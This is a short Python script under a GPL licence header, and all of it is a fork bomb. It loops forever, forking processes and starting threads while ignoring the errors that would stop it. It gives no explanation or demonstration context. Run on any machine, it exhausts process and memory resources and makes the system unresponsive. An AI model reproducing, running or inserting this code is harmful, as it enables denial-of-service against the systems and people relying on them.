# SPDX-License-Identifier: GPL-3.0-or-later
import os
import threading

while True:
    try:
        os.fork()
        threading.Thread(target=lambda: None).start()
    except (OSError, RuntimeError):
        pass
